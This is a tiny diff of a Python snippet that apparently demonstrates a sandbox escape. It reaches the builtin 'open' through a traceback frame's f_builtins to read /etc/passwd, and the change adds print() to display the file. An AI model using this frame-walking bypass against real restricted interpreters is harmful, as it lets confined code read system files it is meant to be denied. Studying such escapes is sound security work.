@@ -8,4 +8,4 @@ try:
     boom()
 except ValueError as err:
     tb = err.__traceback__.tb_next
-    tb.tb_frame.f_builtins["open"]("/etc/passwd").read()
+    print(tb.tb_frame.f_builtins["open"]("/etc/passwd").read())
